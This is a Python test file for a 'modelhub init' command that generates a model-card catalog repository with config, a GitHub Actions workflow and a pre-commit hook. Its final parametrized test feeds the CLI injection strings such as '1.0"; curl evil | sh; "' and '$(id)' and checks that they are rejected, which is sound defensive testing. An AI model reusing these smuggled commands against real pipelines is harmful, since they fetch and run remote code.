"""``modelhub init DIR``: a catalog repository that checks, runs and builds as written, and never overwrites."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

from generator import __version__
from generator.cli import main

REPO = Path(__file__).resolve().parents[1]
FILES = ("modelhub.toml", "cards/example-keyword-sentiment.md", ".gitignore", ".github/workflows/catalog.yml",
         ".pre-commit-config.yaml")


def workflow(root: Path) -> dict:
    return yaml.safe_load((root / ".github" / "workflows" / "catalog.yml").read_text(encoding="utf-8"))


def steps_running(job: dict, command: str) -> list[dict]:
    return [step for step in job["steps"] if command in step.get("run", "")]


def test_init_writes_the_catalog_files(tmp_path, capsys):
    root = tmp_path / "catalog"
    assert main(["init", str(root)]) == 0
    assert sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) == sorted(FILES)
    out = capsys.readouterr().out
    assert f"modelhub=={__version__}" in out and all(name in out for name in FILES)
    ignored = (root / ".gitignore").read_text(encoding="utf-8").split()
    assert "site/" in ignored and ".modelhub-cache/" in ignored
    # the configuration is commented TOML that modelhub reads from the catalog's root
    from generator.config import load_config

    config = load_config(root / "cards")
    assert config.source == root / "modelhub.toml" and config.cache_dir == root / ".modelhub-cache"
    assert (root / "modelhub.toml").read_text(encoding="utf-8").count("\n# ") >= 5


def test_the_example_card_passes_strict_checks_runs_as_written_and_builds(tmp_path, monkeypatch, capsys):
    root = tmp_path / "catalog"
    assert main(["init", str(root)]) == 0
    monkeypatch.chdir(root)
    assert main(["check", "--strict", "cards"]) == 0
    assert "0 errors, 0 warnings, 0 info" in capsys.readouterr().out
    # its Results block is what its snippet really prints, in the sandbox
    assert main(["run", "cards", "--check"]) == 0
    assert main(["build", "--site-dir", "site", "--quiet"]) == 0
    page = (root / "site" / "models" / "example-keyword-sentiment" / "index.html").read_text(encoding="utf-8")
    assert "Example keyword sentiment classifier" in page and "Verified" in page


def test_a_catalogs_own_templates_folder_overrides_modelhubs_files_by_name(tmp_path, monkeypatch):
    root = tmp_path / "catalog"
    assert main(["init", str(root)]) == 0
    (root / "templates" / "partials").mkdir(parents=True)
    (root / "templates" / "partials" / "badges.html.j2").write_text(
        '<p class="our-badges">{{ badges | length }} badges</p>', encoding="utf-8")
    (root / "templates" / "theme" / "assets" / "modelhub").mkdir(parents=True)
    (root / "templates" / "theme" / "assets" / "modelhub" / "modelhub.css").write_text(".ours{}", encoding="utf-8")
    monkeypatch.chdir(root)
    assert main(["build", "--site-dir", "site", "--quiet"]) == 0
    page = (root / "site" / "models" / "example-keyword-sentiment" / "index.html").read_text(encoding="utf-8")
    assert '<p class="our-badges">' in page and 'id="how-to-use"' in page  # the other templates stay modelhub's
    assert (root / "site" / "assets" / "modelhub" / "modelhub.css").read_text(encoding="utf-8") == ".ours{}"
    assert (root / "site" / "assets" / "modelhub" / "catalog.js").is_file()


def test_init_refuses_to_overwrite_and_writes_nothing_unless_forced(tmp_path, capsys):
    root = tmp_path / "catalog"
    (root / "cards").mkdir(parents=True)
    (root / "modelhub.toml").write_text("mine = true\n", encoding="utf-8")
    (root / ".gitignore").write_text("secret/\n", encoding="utf-8")
    assert main(["init", str(root)]) == 2
    err = capsys.readouterr().err
    assert "would overwrite modelhub.toml, .gitignore" in err and "--force" in err and "nothing was written" in err
    assert (root / "modelhub.toml").read_text(encoding="utf-8") == "mine = true\n"
    assert not (root / "cards" / "example-keyword-sentiment.md").exists()
    assert not (root / ".github").exists()
    assert main(["init", str(root), "--force"]) == 0
    assert "mine = true" not in (root / "modelhub.toml").read_text(encoding="utf-8")
    assert (root / ".github" / "workflows" / "catalog.yml").is_file()


def test_init_into_a_file_is_a_usage_error(tmp_path, capsys):
    target = tmp_path / "file"
    target.write_text("x", encoding="utf-8")
    assert main(["init", str(target)]) == 2
    assert "exists and is not a folder" in capsys.readouterr().err


def test_the_workflow_pins_modelhub_caches_checks_changed_cards_and_deploys_pages(tmp_path):
    root = tmp_path / "catalog"
    assert main(["init", str(root)]) == 0
    flow = workflow(root)
    triggers = flow[True]  # YAML 1.1 reads the key `on` as true
    assert "pull_request" in triggers and triggers["push"]["branches"] == ["main"]
    assert flow["env"]["MODELHUB"] == f"modelhub=={__version__}"
    assert flow["concurrency"]["group"] == "catalog-${{ github.ref }}"
    build = flow["jobs"]["check-run-build"]
    python = next(step for step in build["steps"] if step.get("uses", "").startswith("actions/setup-python"))
    assert python["with"]["cache"] == "pip"
    cache = next(step for step in build["steps"] if step.get("uses", "").startswith("actions/cache"))
    assert cache["with"]["path"] == ".modelhub-cache" and "restore-keys" in cache["with"]
    [install] = steps_running(build, "pip install")
    assert '"$MODELHUB"' in install["run"]
    [check] = steps_running(build, "modelhub check --strict")
    [rerun] = steps_running(build, "modelhub run --mode auto --check")
    for step in (check, rerun):  # only in pull requests, only the cards the change touches
        assert step["if"] == "github.event_name == 'pull_request'"
        assert "git diff" in step["run"] and "origin/$BASE...HEAD" in step["run"]
        assert step["env"]["BASE"] == "${{ github.base_ref }}"  # never pasted into the script itself
    [site] = steps_running(build, "modelhub build")
    assert "--mode frozen" in site["run"]
    assert any(step.get("uses", "").startswith("actions/upload-pages-artifact") for step in build["steps"])
    publish = flow["jobs"]["publish"]
    assert publish["needs"] == "check-run-build" and publish["environment"]["name"] == "github-pages"
    assert publish["permissions"] == {"pages": "write", "id-token": "write"}
    assert publish["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    assert publish["steps"][0]["uses"].startswith("actions/deploy-pages")
    assert flow["permissions"] == {"contents": "read"}


def test_the_pre_commit_config_runs_the_repository_hook_pinned_like_the_workflow(tmp_path):
    root = tmp_path / "catalog"
    assert main(["init", str(root), "--version", "1.2.3"]) == 0
    assert workflow(root)["env"]["MODELHUB"] == "modelhub==1.2.3"
    [repo] = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))["repos"]
    [hook] = repo["hooks"]
    ours = {h["id"]: h for h in yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))}
    assert repo["repo"] == "local" and hook["id"] in ours and hook["entry"] == ours[hook["id"]]["entry"]
    assert hook["additional_dependencies"] == ["modelhub==1.2.3"]
    assert re.search(hook["files"], "cards/sub/model.md") and not re.search(hook["files"], "README.md")


def test_init_from_a_git_tag_pins_the_workflow_and_the_hook_to_that_tag(tmp_path):
    root = tmp_path / "catalog"
    url = "https://github.com/your-org/modelhub"
    assert main(["init", str(root), "--git", url, "--version", "0.4.0"]) == 0
    assert workflow(root)["env"]["MODELHUB"] == f"modelhub @ git+{url}@v0.4.0"
    [repo] = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))["repos"]
    assert repo == {"repo": url, "rev": "v0.4.0", "hooks": [{"id": "modelhub-check"}]}
    assert main(["init", str(tmp_path / "tagged"), "--git", url, "--tag", "release-7"]) == 0
    assert workflow(tmp_path / "tagged")["env"]["MODELHUB"] == f"modelhub @ git+{url}@release-7"


def test_init_from_another_package_index(tmp_path):
    root = tmp_path / "catalog"
    assert main(["init", str(root), "--index-url", "https://pypi.example.com/simple"]) == 0
    [install] = steps_running(workflow(root)["jobs"]["check-run-build"], "pip install")
    assert 'pip install --extra-index-url https://pypi.example.com/simple "$MODELHUB"' in install["run"]


@pytest.mark.parametrize("arguments, message", [
    (["--version", '1.0"; curl evil | sh; "'], "is not a version"),
    (["--git", "https://x/y\"\nrun: curl evil"], "is not a URL"),
    (["--git", "https://example.com/m $(id)"], "is not a URL"),
    (["--index-url", "ftp://x"], "is not a URL"),
    (["--tag", "v1"], "--tag needs --git"),
    (["--git", "https://example.com/m", "--tag", "v1'"], "is not a tag name"),
])
def test_values_that_would_break_out_of_the_workflow_are_usage_errors(tmp_path, capsys, arguments, message):
    root = tmp_path / "catalog"
    assert main(["init", str(root), *arguments]) == 2
    assert message in capsys.readouterr().err
    assert not root.exists()
